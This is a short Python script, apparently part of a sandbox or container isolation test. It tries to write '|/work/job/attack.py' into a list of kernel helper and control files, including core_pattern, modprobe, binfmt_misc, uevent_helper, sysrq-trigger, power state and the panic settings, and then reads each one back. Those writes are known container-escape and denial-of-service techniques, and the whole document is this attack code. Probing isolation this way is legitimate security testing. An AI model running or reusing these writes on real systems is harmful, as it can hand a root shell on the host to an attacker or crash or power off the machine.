from evidence import attempt, read, write

for path in ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/fs/binfmt_misc/register",
             "/proc/sys/kernel/usermodehelper/bset", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger", "/proc/sys/kernel/poweroff_cmd",
             "/proc/sys/kernel/ns_last_pid", "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/sysrq", "/proc/sys/vm/overcommit_memory",
             "/sys/power/state", "/sys/module/kernel/parameters/panic"]:
    attempt(f"write{path}", lambda: write(path, b"|/work/job/attack.py"))
    attempt(f"read{path}", lambda: read(path))
